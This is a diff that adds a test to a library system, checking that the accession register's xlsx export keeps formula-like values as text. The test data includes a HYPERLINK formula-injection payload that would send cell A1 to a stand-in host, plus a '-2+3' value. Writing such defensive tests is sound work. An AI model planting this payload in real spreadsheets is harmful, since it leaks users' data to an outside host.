@@ -41,3 +41,29 @@ def test_csv_fields_that_look_like_formulas_get_a_quote():
         5,
         "",
     ]
+
+
+def test_a_hyperlink_formula_in_a_title_comes_out_of_the_register_as_text(staff_client):
+    """The accession register's xlsx: a title "=HYPERLINK(...)" and a call number "-2+3"
+    are string cells (shown as typed), never formulas a spreadsheet program would run."""
+    from datetime import date as day
+
+    from openpyxl import load_workbook as load
+
+    from libsys.catalog.copies.services import add_item
+    from libsys.catalog.services import build_marc, save_record
+    from tests.catalog.helpers import BOOK
+
+    title = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
+    record = save_record(build_marc(dict(BOOK, title=title, isbn="", subtitle="", series="")))
+    add_item(record, library="TVLC", store="VN", call_number="-2+3", price=1000,
+             acquired_on=day(2025, 3, 2))  # fmt: skip
+    response = staff_client.get(
+        "/staff/registers/",
+        query_string={"register": "individual", "library": "TVLC", "format": "xlsx"},
+    )
+    sheet = load(io.BytesIO(response.data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    hyperlink = [cell for cell in cells if cell.value.startswith("=HYPERLINK")]
+    assert hyperlink and all(cell.data_type == "s" for cell in hyperlink)
+    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
